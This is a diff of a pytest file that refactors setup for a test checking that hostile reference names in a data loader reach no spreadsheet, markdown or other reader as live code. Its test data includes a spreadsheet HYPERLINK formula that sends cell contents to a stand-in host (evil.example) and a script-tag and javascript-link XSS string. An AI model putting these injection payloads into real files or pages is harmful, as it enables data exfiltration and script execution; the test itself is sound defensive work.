@@ -15,7 +15,7 @@ import pytest
 from openpyxl import load_workbook
 
 from loaders.escape import markdown_text, one_line, spreadsheet_cell, spss_literal, stata_text
-from tests.conftest import empty_delivery, regio_codes, run_vt, small_delivery, write_delivery
+from tests.conftest import national_inbox, run_vt
 
 
 def test_each_writer_escapes_for_its_reader():
@@ -36,12 +36,7 @@ def test_hostile_reference_names_reach_no_reader_as_code(tmp_path):
         "regio VT05": '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
         "regio VT14": "<script>alert(1)</script>|[x](javascript:alert(1))",
     }
-    inbox = tmp_path / "inbox"
-    inbox.mkdir()
-    write_delivery(inbox, small_delivery())
-    for vt in regio_codes(2020):
-        if vt != "VT05":
-            write_delivery(inbox, empty_delivery(vt))
+    inbox = national_inbox(tmp_path / "inbox")
     home = tmp_path / "wh"
     run_vt("load", "--received-at", "2020-07-25", str(inbox), home=home)
     with duckdb.connect(str(home / "vt.duckdb")) as con:  # past the import's checks
